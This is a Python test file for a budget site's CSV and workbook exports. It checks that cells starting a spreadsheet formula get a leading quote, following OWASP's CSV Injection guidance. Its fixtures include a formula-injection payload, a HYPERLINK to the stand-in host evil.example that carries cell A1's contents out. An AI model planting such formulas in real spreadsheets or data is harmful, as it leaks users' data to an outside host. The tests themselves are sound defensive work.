"""Downloads safe to open in a spreadsheet: no CSV cell starts a formula, the workbook holds text as text.

Text that a spreadsheet program would run as a formula (OWASP, "CSV Injection") gets a leading ``'`` in
the CSV downloads; the data files, the amounts and the codes stay as they are.
"""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest
from frictionless import validate as frictionless_validate
from openpyxl import load_workbook

from conftest import PUBLICATION, read_rows, write_rows
from macros.checking.validation import validate
from macros.exchange import exports
from macros.exchange.exports import FORMULA_TRIGGERS, neutralise_formula, table_csv, workbook
from macros.model.publication import Publication

HOSTILE_NAME = '-1+1+HYPERLINK("http://evil.example/?"&A1,"查看")'
PROJECT_TABLE = "12-project-expenditure-budget.csv"
TAB_PROJECT_EN = "\tPay for contract staff"
# Function code 201's English in the dictionary (the dictionary loader strips a leading tab: a minus stays).
MINUS_CLASS_EN = "-General public services"


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_a_formula_gets_a_leading_quote(start: str) -> None:
    cell = f'{start}1+1+HYPERLINK("http://evil.example/","x")'
    assert neutralise_formula(cell) == "'" + cell
    assert neutralise_formula(start) == "'" + start


@pytest.mark.parametrize(
    "cell",
    [
        "",
        "编外人员聘用经费",
        "Pay for contract staff",
        "Ex-post evaluation - 2024",  # a minus in the middle
        "a=b+c@d",
        " =1+1",  # a leading space: the validator's business (content.check_formula_like), not a trigger
        "'-1",  # already text to a spreadsheet
        "2010301",
        "（一）=",
    ],
)
def test_other_cells_stay_as_they_are(cell: str) -> None:
    assert neutralise_formula(cell) == cell


def test_the_triggers_are_owasps() -> None:
    assert set(FORMULA_TRIGGERS) == {"=", "+", "-", "@", "\t", "\r"}


@pytest.fixture
def hostile(data_copy: Path) -> tuple[Path, Publication]:
    """The seed with a project name that is a formula, a project's English name that starts with a tab and
    a dictionary name that starts with a minus: text the validator accepts today (it refuses text starting
    with = + @)."""
    path = data_copy / PUBLICATION / PROJECT_TABLE
    rows = read_rows(path)
    header = rows[0]
    project = next(row for row in rows[1:] if row[header.index("row_type")] == "project")
    project[header.index("name")] = HOSTILE_NAME
    project[header.index("name_en")] = TAB_PROJECT_EN
    write_rows(path, rows)
    codes = data_copy / "dictionaries" / "function-codes.csv"
    rows = read_rows(codes)
    line = next(row for row in rows if row[0] == "201")
    assert line[rows[0].index("name_en")] == MINUS_CLASS_EN[1:]
    line[rows[0].index("name_en")] = MINUS_CLASS_EN
    write_rows(codes, rows)
    return data_copy, validate(data_copy).publications[(2024, PUBLICATION.name)]


def exported_rows(content: bytes) -> list[list[str]]:
    assert content.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_the_csv_neutralises_the_formula_and_keeps_every_amount(hostile: tuple[Path, Publication]) -> None:
    data_dir, publication = hostile
    table = publication.tables["12"]
    rows = exported_rows(table_csv(table))
    header = rows[0]
    project = next(row for row in rows[1:] if row[header.index("row_type")] == "project")
    assert project[header.index("name")] == "'" + HOSTILE_NAME
    assert project[header.index("name_en")] == "'" + TAB_PROJECT_EN
    amounts = 0
    for spec in publication.template.tables:
        original = [row for row in read_rows(data_dir / PUBLICATION / spec.file) if any(cell.strip() for cell in row)]
        exported = exported_rows(table_csv(publication.tables[spec.id]))
        assert exported[0] == original[0], spec.file
        assert len(exported) == len(original), spec.file
        for before, after in zip(original[1:], exported[1:], strict=True):
            for name, was, now in zip(original[0], before, after, strict=True):
                if spec.column(name).type == "amount":
                    assert now == was, (spec.file, name)  # numbers, never touched
                    amounts += bool(was)
                elif was.startswith(FORMULA_TRIGGERS):
                    assert now == "'" + was, (spec.file, name)
                else:
                    assert now == was, (spec.file, name)
    assert amounts > 100
    # The data file itself keeps the name as typed.
    assert HOSTILE_NAME in (data_dir / PUBLICATION / PROJECT_TABLE).read_text(encoding="utf-8").replace('""', '"')


def test_an_amount_cell_that_is_no_number_counts_as_text(hostile: tuple[Path, Publication]) -> None:
    """The export does not rely on the validator: a refused amount still cannot start a formula."""
    data_dir, _ = hostile
    path = data_dir / PUBLICATION / PROJECT_TABLE
    rows = read_rows(path)
    rows[-1][rows[0].index("total")] = "-1+1"
    write_rows(path, rows)
    publication = validate(data_dir).publications[(2024, PUBLICATION.name)]
    exported = exported_rows(table_csv(publication.tables["12"]))
    assert exported[-1][rows[0].index("total")] == "'-1+1"
    assert exported[-1][rows[0].index("fiscal_total")] == rows[-1][rows[0].index("fiscal_total")]


@pytest.mark.parametrize("lang", ["zh", "en"])
def test_the_workbook_holds_the_text_as_text(hostile: tuple[Path, Publication], lang: str) -> None:
    _, publication = hostile
    book = load_workbook(io.BytesIO(workbook(publication, lang=lang)))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "no formula in the workbook"
    expected = [HOSTILE_NAME] if lang == "zh" else [TAB_PROJECT_EN]
    shown = [cell for cell in cells if isinstance(cell.value, str) and cell.value in expected]
    assert shown and all(cell.data_type == "s" for cell in shown)
    if lang == "en":  # the dictionary's English name, in the tables that show function code 201
        named = [cell for cell in cells if isinstance(cell.value, str) and MINUS_CLASS_EN in cell.value]
        assert MINUS_CLASS_EN in [cell.value for cell in named]
        assert all(cell.data_type == "s" for cell in named)


def test_every_csv_the_site_writes_is_neutralised(
    hostile: tuple[Path, Publication], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """What the build writes (write_downloads): each table's CSV, the yearly archive; the package is valid."""
    _, publication = hostile
    monkeypatch.setenv("BUDGET_CHART_CACHE", str(tmp_path / "cache" / "charts"))  # cached workbooks beside
    site = tmp_path / "site"
    exports.write_downloads([publication], site_dir=site, lang="en")
    folder = site / exports.publication_folder(publication)
    files = {path.name: path.read_bytes() for path in folder.glob("*.csv")}
    with zipfile.ZipFile(site / "downloads" / "2024.zip") as archive:
        zipped = {Path(name).name: archive.read(name) for name in archive.namelist() if name.endswith(".csv")}
    assert files == zipped and len(files) == len(publication.template.tables)
    for spec in publication.template.tables:
        rows = exported_rows(files[spec.file])
        amounts = [index for index, name in enumerate(rows[0]) if spec.column(name).type == "amount"]
        for row in rows[1:]:
            for index, cell in enumerate(row):
                assert index in amounts or not cell.startswith(FORMULA_TRIGGERS), (spec.file, cell)
    assert any(row[1] == "'" + HOSTILE_NAME for row in exported_rows(files[PROJECT_TABLE]))
    for package in (folder / "datapackage.json", site / "downloads" / "datapackage.json"):
        report = frictionless_validate(str(package))
        assert report.valid, report.flatten(["rowNumber", "fieldNumber", "type", "note"])
